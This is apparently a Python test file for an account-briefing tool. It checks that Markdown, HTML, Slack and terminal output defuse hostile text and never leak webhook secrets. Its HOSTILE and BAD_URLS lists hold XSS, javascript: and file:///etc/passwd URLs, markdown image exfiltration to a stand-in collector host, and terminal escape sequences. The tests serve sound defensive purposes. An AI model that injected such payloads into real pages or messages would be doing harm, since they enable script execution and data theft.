"""Nothing from a source or a model reaches the CSM's screen live: Markdown, HTML, Slack and the
terminal show it as text, link only http(s) addresses and never print a secret or an escape."""

from __future__ import annotations

import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

from agent.book import upsert_accounts
from agent.cli import app
from agent.config import Settings
from agent.errors import ConfigError, FetchError
from agent.render import render
from agent.render.escape import md_cell, md_link, md_text, printable, web_url
from agent.scan.digest import Digest, DigestAccount, render_digest
from agent.scan.notify import post_json, slack_payload
from agent.schemas import (
    Account,
    AccountRef,
    Briefing,
    Changes,
    Claim,
    Evidence,
    Layer,
    LayerName,
    Layers,
    Persona,
    Signal,
    SignalType,
    Source,
    SourceKind,
    SourceRef,
    Stakeholder,
    Triage,
    ValueMessage,
)

NOW = datetime(2026, 5, 4, 9, 30, tzinfo=UTC)
COLLECTOR = "https://collector.example/c?data=acme-secrets"
#: What a hostile page or a model's answer may say, in every shape the renderers must defuse.
HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    f"![x]({COLLECTOR})",
    f"[click here]({COLLECTOR})",
    f"[ref]: {COLLECTOR}",
    "<https://collector.example/auto>",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a | b | c",
    "# Injected heading",
    "- injected item",
    "1. injected step",
    "> injected quote",
    "---",
    "`code` **bold** _it_ ~~gone~~ [^9]",
    "line one\n# heading two\n\n| x | y |",
    "title\x1b[2J\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\u202eevil\x9b31m",
    "[link=https://evil.example]rich link[/link] [/bold] [bold red]",
]
BAD_URLS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    _PWN := "https://news.example/a)[pwn](http://evil.example/x",
    'https://news.example/a" onmouseover="alert(1)',
    "https://news.example/a>\n<script>alert(1)</script>",
    "http:///no-host",
    "//evil.example/protocol-relative",
]

#: The feed link that tried to add "[pwn](http://evil...)" stays inside its own link.
PWN_LINK = "https://news.example/a%29%5Bpwn%5D%28http://evil.example/x"


def _ev(i: int) -> list[Evidence]:
    return [Evidence(source_id=f"src-{i}", quote=HOSTILE[i % len(HOSTILE)])]


def _briefing() -> Briefing:
    text = " ".join(HOSTILE)
    layer = Layer(
        summary=text,
        claims=[Claim(text=t, evidence=_ev(i)) for i, t in enumerate(HOSTILE)],
        gaps=HOSTILE,
        questions=HOSTILE,
    )
    signals = [
        Signal(
            type=SignalType.product_launch,
            severity="yellow",
            polarity="context",
            summary=t,
            occurred_at=date(2026, 5, 1),
            entity=t,
            evidence=_ev(i),
        )
        for i, t in enumerate(HOSTILE)
    ]
    urls = [*BAD_URLS, "https://news.example/ok_(1)", None]
    sources = [
        SourceRef(id=f"src-{i}", kind=SourceKind.news, title=HOSTILE[i % len(HOSTILE)], url=u)
        for i, u in enumerate(urls)
    ]
    return Briefing(
        account=AccountRef(account_id="acme", name="Acme | <b>Corp</b> [x](http://evil.example)"),
        generated_at=NOW,
        mode="llm:<img src=x onerror=alert(1)>",
        headline=text,
        focus_layer=LayerName.commercial,
        focus_reason=text,
        layers=Layers(commercial=layer, competitive=layer, ecosystem=layer, internal=layer),
        signals=signals,
        triage=Triage(status="red", expansion=True, reasons=HOSTILE, plays=HOSTILE),
        changes=Changes(previous_brief_at=NOW, new_signals=signals),
        stakeholders=[
            Stakeholder(name=t, title=t, status="new", evidence=_ev(i))
            for i, t in enumerate(HOSTILE)
        ],
        messages=[
            ValueMessage(persona=p, message=HOSTILE[i], proof_points=_ev(i))
            for i, p in enumerate(Persona)
        ],
        sources=sources,
        source_gaps=HOSTILE,
        notices=HOSTILE,
    )


def _tokens(markdown: str) -> list[Any]:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    flat: list[Any] = []
    for token in parser.parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def _plain(inline: Any) -> str:
    return "".join(c.content for c in inline.children or [] if c.type == "text")


def _assert_inert_markdown(markdown: str, headings: set[str], links: set[str]) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", markdown)
    tokens = _tokens(markdown)
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_inline", "html_block", "image", "s_open", "hr"}
    codes = {t.content for t in tokens if t.type == "code_inline"}
    assert all(re.fullmatch(r"src-\d+", c) for c in codes), codes  # only our source ids
    hrefs = {str(t.attrs["href"]) for t in tokens if t.type == "link_open"}
    assert hrefs <= links, hrefs - links
    assert all(h.startswith(("http://", "https://")) for h in hrefs)
    found = [_plain(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert set(found) <= headings, set(found) - headings
    rows = [i for i, t in enumerate(tokens) if t.type == "tr_open"]
    for start in rows:
        end = next(j for j in range(start, len(tokens)) if tokens[j].type == "tr_close")
        cells = [t for t in tokens[start:end] if t.type in ("td_open", "th_open")]
        assert len(cells) == 4
    assert "<script" not in markdown and "<img" not in markdown


def test_markdown_brief_shows_source_and_model_text_as_text() -> None:
    markdown = render(_briefing(), "md")
    headings = {
        "Acme | <b>Corp</b> [x](http://evil.example) — account brief",
        "Since your last brief (2026-05-04 09:30 UTC)",
        "Triage: RED · expansion opportunity",
        "Signals",
        "Commercial",
        "Competitive",
        "Ecosystem",
        "Internal",
        "Stakeholders",
        "Value messages",
        "Source gaps",
        "Sources",
        *(p.value.replace("_", " ").capitalize() for p in Persona),
    }
    links = {"https://news.example/ok_%281%29", PWN_LINK}
    _assert_inert_markdown(markdown, headings, links)
    # what was escaped still reads as it was written
    assert "alert(1)" in markdown and "Acme \\| &lt;b&gt;Corp&lt;/b&gt;" in markdown
    assert "javascript:alert(document.cookie)" in markdown  # shown, not linked


def test_markdown_digest_shows_source_text_as_text() -> None:
    signals = _briefing().signals
    accounts = [
        DigestAccount(
            account_id=f"a{i}",
            name=name,
            triage="red",
            new_signals=signals,
            plays=HOSTILE,
            errors=HOSTILE,
            links={f"src-{j}": u for j, u in enumerate([*BAD_URLS, "https://news.example/ok"])},
        )
        for i, name in enumerate(HOSTILE)
    ]
    digest = Digest(run_id="r1", started_at=NOW, finished_at=NOW, accounts=accounts)
    markdown = render_digest(digest, "md")
    headings = {"Book scan 2026-05-04 09:30 UTC", *(f"{n} — red" for n in map(_one_line, HOSTILE))}
    _assert_inert_markdown(markdown, headings, {"https://news.example/ok", PWN_LINK})
    _assert_inert_html(render_digest(digest, "html"), {"https://news.example/ok", _PWN})


def _one_line(text: str) -> str:
    return " ".join(printable(text).split())


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _assert_inert_html(page: str, links: set[str]) -> None:
    parser = _Tags()
    parser.feed(page)
    names = {tag for tag, _ in parser.tags}
    assert not names & {"script", "img", "iframe", "b", "svg", "object"}
    assert all(not k.startswith("on") for _, attrs in parser.tags for k in attrs)
    hrefs = {attrs["href"] or "" for tag, attrs in parser.tags if "href" in attrs}
    outside = {h for h in hrefs if not h.startswith("#")}
    assert outside <= links, outside - links
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", page)


def test_html_brief_links_only_web_addresses() -> None:
    _assert_inert_html(render(_briefing(), "html"), {"https://news.example/ok_(1)", _PWN})


@pytest.mark.parametrize("url", BAD_URLS)
def test_only_http_urls_become_links(url: str) -> None:
    link = md_link("label", url)
    if web_url(url) is None:
        assert "](" not in link
    else:  # a web address stays one link however it ends
        hrefs = [t.attrs["href"] for t in _tokens(link) if t.type == "link_open"]
        assert len(hrefs) == 1 and "evil" not in link.split("](")[0]


def test_md_text_keeps_ordinary_text_readable() -> None:
    assert md_text("Revenue grew 12% (to $410 million) at AT&T.") == (
        "Revenue grew 12% (to $410 million) at AT&T."
    )
    assert md_text("2026. A year") == "2026\\. A year"


def test_a_table_cell_escapes_markup_but_not_a_leading_number() -> None:
    assert md_text("9.8 million") == "9\\.8 million"  # a line that starts "9." is a list
    assert md_cell("9.8 million") == "9.8 million"  # a cell never starts a line
    assert md_cell("a | b <img src=x>") != "a | b <img src=x>"
    assert "|" not in md_cell("a | b").replace("\\|", "")


def test_slack_payload_escapes_mrkdwn_and_control_codes() -> None:
    account = DigestAccount(
        account_id="a",
        name="<!channel> Acme <https://evil.example|click> \x1b[31m",
        triage="red",
        new_signals=_briefing().signals[:3],
        plays=["<@U123> &amp; call <!here>"],
    )
    payload = slack_payload([account])
    assert payload is not None
    for block in payload["blocks"]:
        text = str(block.get("text", {}).get("text", ""))
        assert "<" not in text and ">" not in text and "\x1b" not in text
    assert "&lt;!channel&gt;" in str(payload) and "&amp;amp;" in str(payload)


SECRET = "T0FAKE01/B0FAKE02/Zq9fakeSecretValue77"


@pytest.mark.parametrize(
    "url",
    [
        f"https://hooks.slack.com/services/{SECRET}",
        f"https://alerts.example.com/notify/{SECRET}",
        f"https://user:{SECRET.replace('/', '-')}@alerts.example.com/x",
    ],
)
@pytest.mark.parametrize("reply", [404, 500, "connect"])
def test_a_failing_webhook_never_shows_its_secret(url: str, reply: int | str) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        if reply == "connect":
            raise httpx.ConnectError(f"cannot reach {request.url}")
        assert isinstance(reply, int)
        return httpx.Response(reply, text=f"no such hook {request.url}")

    with pytest.raises(FetchError) as caught:
        post_json(url, {"text": "x"}, transport=httpx.MockTransport(handler), attempts=1)
    line = str(caught.value)
    for part in SECRET.split("/"):
        assert part not in line
    assert "alerts.example.com" in line or "hooks.slack.com" in line


@pytest.mark.parametrize(
    "url", [f"https://hooks.example:99999/{SECRET}", f"javascript:alert('{SECRET}')", "::"]
)
def test_a_malformed_webhook_is_one_config_error(url: str) -> None:
    handler = httpx.MockTransport(lambda r: httpx.Response(200))
    with pytest.raises(ConfigError) as caught:
        post_json(url, {"text": "x"}, transport=handler, attempts=1)
    assert SECRET.split("/")[-1] not in str(caught.value)


runner = CliRunner()
ESCAPED = "Acme\x1b[2J\x1b]8;;https://evil.example\x07 [/bold] [link=https://evil.example]x[/link]"


def test_tables_print_no_escape_codes_or_markup(home: Path) -> None:
    settings = Settings(home=home)
    upsert_accounts(
        settings, [Account(account_id="acme", name=ESCAPED, owner=ESCAPED, domain="acme.example")]
    )
    # an old workspace may hold text stored before ingest stripped control characters
    source = Source(
        id="news-1",
        account_id="acme",
        kind=SourceKind.news,
        title=ESCAPED,
        url="https://news.example/a",
        retrieved_at=NOW,
        published_at=NOW,
        text=f"{ESCAPED} appointed Dana Whitfield as chief executive officer, effective May 1.",
    )
    folder = settings.sources_dir / "acme"
    folder.mkdir(parents=True)
    (folder / "news-1.json").write_text(source.model_dump_json())
    for args in (
        ["book", "list"],
        ["sources", "acme"],
        ["signals", "acme", "--as-of", "2026-05-05"],
    ):
        result = runner.invoke(app, ["--home", str(home), *args])
        assert result.exit_code == 0, (args, result.output)
        shown = result.stdout
        assert "\x1b" not in shown and "\x07" not in shown, (args, shown)
        assert "[/bold]" in shown or args[0] == "signals", (args, shown)
